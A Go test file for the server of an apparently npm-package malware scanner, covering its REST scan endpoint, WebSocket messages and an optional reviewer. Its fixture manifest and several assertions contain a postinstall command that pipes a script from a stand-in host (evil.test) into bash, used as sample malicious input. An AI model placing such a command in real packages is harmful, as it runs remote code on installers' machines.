package server

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.uber.org/zap/zaptest"

	"github.com/acheong08/npm-sentinel/internal/parser"
	"github.com/acheong08/npm-sentinel/internal/review"
	"github.com/acheong08/npm-sentinel/pkg/models"
)

func leftPadResult() models.AnalysisResult {
	return models.AnalysisResult{
		PackageName: "left-pad",
		Findings: []models.Finding{
			{Type: models.KindSuspiciousScript, Severity: models.SeverityHigh, Description: "Downloads content via curl detected.", Location: "scripts.postinstall"},
			{Type: models.KindSuspiciousScript, Severity: models.SeverityCritical, Description: "Pipes content directly to bash execution detected.", Location: "scripts.postinstall"},
		},
		Score:      20,
		Analyzable: true,
	}
}

type call struct{ name, version string }

const leftPadManifest = `{"name":"left-pad","version":"1.3.0","scripts":{"postinstall":"curl http://evil.test/x.sh | bash"}}`

func fakeScanner(calls chan<- call) PackageScanner {
	return ScannerFunc(func(_ context.Context, name, version string) (models.AnalysisResult, *parser.Manifest, error) {
		if calls != nil {
			calls <- call{name, version}
		}
		if name == "missing" {
			return models.AnalysisResult{}, nil, errors.New("package not found in registry: missing")
		}
		return leftPadResult(), parser.Load([]byte(leftPadManifest)), nil
	})
}

// fakeReviewer records the manifest of every review when manifests is set
type fakeReviewer struct {
	manifests chan *parser.Manifest
}

func (f fakeReviewer) Review(_ context.Context, _ models.AnalysisResult, manifest *parser.Manifest) (review.Assessment, error) {
	if f.manifests != nil {
		f.manifests <- manifest
	}
	return review.Assessment{IsMalicious: true, Confidence: 0.8, Justification: "remote script piped to bash"}, nil
}

func reviewedScript(t *testing.T, manifests <-chan *parser.Manifest) string {
	t.Helper()
	select {
	case m := <-manifests:
		require.NotNil(t, m)
		cmd, ok := m.Scripts.Get("postinstall")
		require.True(t, ok)
		return cmd
	case <-time.After(5 * time.Second):
		t.Fatal("reviewer was not called")
		return ""
	}
}

func newTestServer(t *testing.T, opts ...Option) (*Server, *httptest.Server) {
	s := New(fakeScanner(nil), append([]Option{WithLogger(zaptest.NewLogger(t))}, opts...)...)
	s.newID = func() string { return "scan-1" }
	ts := httptest.NewServer(s.Handler())
	t.Cleanup(ts.Close)
	return s, ts
}

func TestHealth(t *testing.T) {
	_, ts := newTestServer(t)

	resp, err := http.Get(ts.URL + "/health")
	require.NoError(t, err)
	defer resp.Body.Close()
	assert.Equal(t, http.StatusOK, resp.StatusCode)
}

func postScan(t *testing.T, url, body string) (int, ScanResponse) {
	t.Helper()
	resp, err := http.Post(url+"/api/npm/scan", "application/json", strings.NewReader(body))
	require.NoError(t, err)
	defer resp.Body.Close()

	var out ScanResponse
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&out))
	return resp.StatusCode, out
}

func TestScanEndpoint(t *testing.T) {
	_, ts := newTestServer(t)

	status, resp := postScan(t, ts.URL, `{"packageName":"left-pad","version":"1.3.0"}`)
	assert.Equal(t, http.StatusOK, status)
	assert.True(t, resp.Success)
	assert.Equal(t, "scan-1", resp.ScanID)
	require.NotNil(t, resp.Report)
	assert.Equal(t, "left-pad", resp.Report.PackageName)
	assert.Equal(t, 20, resp.Report.Score)
	require.Len(t, resp.Report.Findings, 2)
	assert.Equal(t, models.SeverityCritical, resp.Report.Findings[1].Severity)
	assert.Nil(t, resp.Review)
}

func TestScanEndpointPassesVersion(t *testing.T) {
	calls := make(chan call, 2)
	s := New(fakeScanner(calls))
	ts := httptest.NewServer(s.Handler())
	defer ts.Close()

	postScan(t, ts.URL, `{"packageName":"@types/node@20.1.0"}`)
	assert.Equal(t, call{"@types/node", "20.1.0"}, <-calls)

	postScan(t, ts.URL, `{"packageName":"lodash","version":"4.17.21"}`)
	assert.Equal(t, call{"lodash", "4.17.21"}, <-calls)
}

func TestScanEndpointWithReview(t *testing.T) {
	manifests := make(chan *parser.Manifest, 1)
	_, ts := newTestServer(t, WithReviewer(fakeReviewer{manifests: manifests}))

	status, resp := postScan(t, ts.URL, `{"packageName":"left-pad"}`)
	assert.Equal(t, http.StatusOK, status)
	require.NotNil(t, resp.Review)
	assert.True(t, resp.Review.IsMalicious)
	assert.Equal(t, 20, resp.Report.Score, "review never changes the score")
	assert.Equal(t, "curl http://evil.test/x.sh | bash", reviewedScript(t, manifests))
}

func TestScanEndpointErrors(t *testing.T) {
	_, ts := newTestServer(t)

	tests := []struct {
		name   string
		body   string
		status int
	}{
		{"missing name", `{}`, http.StatusBadRequest},
		{"empty name", `{"packageName":""}`, http.StatusBadRequest},
		{"invalid json", `{"packageName":`, http.StatusBadRequest},
		{"fetch failure", `{"packageName":"missing"}`, http.StatusInternalServerError},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			status, resp := postScan(t, ts.URL, tt.body)
			assert.Equal(t, tt.status, status)
			assert.False(t, resp.Success)
			assert.NotEmpty(t, resp.Error)
			assert.Nil(t, resp.Report)
		})
	}
}

func TestScanEndpointMethod(t *testing.T) {
	_, ts := newTestServer(t)

	resp, err := http.Get(ts.URL + "/api/npm/scan")
	require.NoError(t, err)
	resp.Body.Close()
	assert.Equal(t, http.StatusMethodNotAllowed, resp.StatusCode)
}

func dialWs(t *testing.T, ts *httptest.Server) *websocket.Conn {
	t.Helper()
	conn, _, err := websocket.DefaultDialer.Dial("ws"+strings.TrimPrefix(ts.URL, "http")+"/ws", nil)
	require.NoError(t, err)
	t.Cleanup(func() { conn.Close() })
	return conn
}

func send(t *testing.T, conn *websocket.Conn, msg string) {
	t.Helper()
	require.NoError(t, conn.WriteMessage(websocket.TextMessage, []byte(msg)))
}

func readMessage(t *testing.T, conn *websocket.Conn) Message {
	t.Helper()
	require.NoError(t, conn.SetReadDeadline(time.Now().Add(5*time.Second)))
	_, data, err := conn.ReadMessage()
	require.NoError(t, err)
	var msg Message
	require.NoError(t, json.Unmarshal(data, &msg))
	return msg
}

// readUntil collects messages up to and including the first of type last
func readUntil(t *testing.T, conn *websocket.Conn, last MessageType) []Message {
	t.Helper()
	var msgs []Message
	for {
		msg := readMessage(t, conn)
		msgs = append(msgs, msg)
		if msg.Type == last {
			return msgs
		}
	}
}

func TestWebSocketPing(t *testing.T) {
	_, ts := newTestServer(t)
	conn := dialWs(t, ts)

	send(t, conn, `{"type":"ping"}`)
	assert.Equal(t, TypePong, readMessage(t, conn).Type)
}

func TestWebSocketUnknownType(t *testing.T) {
	_, ts := newTestServer(t)
	conn := dialWs(t, ts)

	send(t, conn, `{"type":"analyze"}`)
	msg := readMessage(t, conn)
	require.Equal(t, TypeError, msg.Type)

	var payload ErrorPayload
	require.NoError(t, json.Unmarshal(msg.Payload, &payload))
	assert.Contains(t, payload.Message, "Unknown message type: analyze")
}

func TestWebSocketScan(t *testing.T) {
	manifests := make(chan *parser.Manifest, 1)
	_, ts := newTestServer(t, WithReviewer(fakeReviewer{manifests: manifests}))
	conn := dialWs(t, ts)

	send(t, conn, `{"type":"scan","payload":{"packageName":"left-pad"}}`)
	msgs := readUntil(t, conn, TypeComplete)

	var types []MessageType
	for _, m := range msgs {
		types = append(types, m.Type)
	}
	assert.Equal(t, []MessageType{TypeProgress, TypeProgress, TypeResult, TypeProgress, TypeReview, TypeProgress, TypeComplete}, types)

	var result ResultPayload
	require.NoError(t, json.Unmarshal(msgs[2].Payload, &result))
	assert.Equal(t, "scan-1", result.ScanID)
	assert.Equal(t, "left-pad", result.Report.PackageName)
	assert.Equal(t, 20, result.Report.Score)

	var review ReviewPayload
	require.NoError(t, json.Unmarshal(msgs[4].Payload, &review))
	assert.True(t, review.Assessment.IsMalicious)

	var complete CompletePayload
	require.NoError(t, json.Unmarshal(msgs[6].Payload, &complete))
	assert.True(t, complete.Success)

	assert.Equal(t, "curl http://evil.test/x.sh | bash", reviewedScript(t, manifests))
}

func TestWebSocketScanFailure(t *testing.T) {
	_, ts := newTestServer(t)
	conn := dialWs(t, ts)

	send(t, conn, `{"type":"scan","payload":{"packageName":"missing"}}`)
	msgs := readUntil(t, conn, TypeComplete)

	require.GreaterOrEqual(t, len(msgs), 2)
	assert.Equal(t, TypeError, msgs[len(msgs)-2].Type)

	var complete CompletePayload
	require.NoError(t, json.Unmarshal(msgs[len(msgs)-1].Payload, &complete))
	assert.False(t, complete.Success)
}

func TestWebSocketBadScanRequest(t *testing.T) {
	_, ts := newTestServer(t)
	conn := dialWs(t, ts)

	send(t, conn, `{"type":"scan","payload":{}}`)
	msg := readMessage(t, conn)
	assert.Equal(t, TypeError, msg.Type)
}

func TestParseScanRequest(t *testing.T) {
	pkg, err := ParseScanRequest([]byte(`{"packageName":"left-pad","version":"1.3.0"}`))
	require.NoError(t, err)
	assert.Equal(t, models.NewPackage("left-pad", "1.3.0"), pkg)

	_, err = ParseScanRequest(nil)
	assert.Error(t, err)
	_, err = ParseScanRequest([]byte(`{"packageName":"@scope"}`))
	assert.Error(t, err)
}

func TestListenAndServeShutdown(t *testing.T) {
	s := New(fakeScanner(nil))
	ctx, cancel := context.WithCancel(context.Background())

	done := make(chan error, 1)
	go func() { done <- s.ListenAndServe(ctx, "127.0.0.1:0") }()

	time.Sleep(20 * time.Millisecond)
	cancel()

	select {
	case err := <-done:
		assert.NoError(t, err)
	case <-time.After(5 * time.Second):
		t.Fatal("server did not shut down")
	}
}
